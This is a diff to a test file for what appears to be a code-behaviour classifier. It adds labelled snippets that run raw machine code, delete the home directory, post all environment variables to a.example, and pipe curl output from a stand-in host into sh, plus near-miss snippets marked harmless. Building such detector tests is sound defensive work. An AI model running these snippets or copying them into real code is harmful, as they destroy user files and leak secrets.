@@ -95,6 +95,21 @@ DOES: list[tuple[str, str]] = [
     ("swaps-the-clipboard", "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('x')"),
     ("runs-machine-code", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)"),
     (
+        "runs-machine-code",
+        "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(b'...')\n"
+        "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_int.from_buffer(m)))()",
+    ),
+    (
+        "destroys-files",
+        "import os, shutil\ndef clean(folder):\n    shutil.rmtree(folder)\nclean(os.path.expanduser('~'))",
+    ),
+    (
+        "sends-secrets",
+        "import os, requests\nclass Report:\n    def __init__(self, data):\n        self.data = data\n"
+        "    def send(self):\n        requests.post('https://a.example', json=self.data)\n"
+        "Report(dict(os.environ)).send()",
+    ),
+    (
         "destroys-files",
         "import os, shutil, threading\n"
         "threading.Thread(target=shutil.rmtree, args=(os.path.expanduser('~'),)).start()",
@@ -137,6 +152,23 @@ HONEST = [
     "print('Install Rust first: curl https://sh.example | sh')",
     "import shutil\nshutil.rmtree('build')",
     "import os\nos.system('pip install wheel')",
+    # Each kind of what was refused wrongly: what is alike in the text only.
+    "import glob, shutil\nfor d in [p for p in glob.glob('build/*')]:\n    shutil.rmtree(d)",
+    "import os, shutil, tempfile\ndef free():\n    path = '/'\n    return os.statvfs(path)\n"
+    "def scratch():\n    path = tempfile.mkdtemp()\n    shutil.rmtree(path)\nfree()\nscratch()",
+    "import socket\nIPS = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]",
+    "import pickle, urllib.request\ndef load(url):\n    return pickle.load(urllib.request.urlopen(url))\n"
+    "def register(function):\n    return lambda other: other\n@register(load)\ndef other(): pass",
+    "from ctypes import CDLL, CFUNCTYPE, c_int\nlib = CDLL('libworkqueue.so')\n"
+    "CFUNCTYPE(None, c_int)(lib.launch_threads)(4)",
+    "from ctypes import *\nfrom numba.extending import overload\nimport os\n"
+    "def update():\n    os.system('curl http://a.example | sh')\n@overload(update)\ndef ol(): pass",
+    "import urllib.request\nclass Index:\n    def fetch(self, url):\n        def find(found):\n"
+    "            exec(urllib.request.urlopen(found).read())\n        find(url)\n"
+    "def parse(page):\n    return page.find('a')\nparse('abc')",
+    "import urllib.request\nclass Index:\n    def find(self, found):\n"
+    "        exec(urllib.request.urlopen(found).read())\ndef parse(page):\n    return page.find('a')\n"
+    "parse('abc')",
 ]
 
 
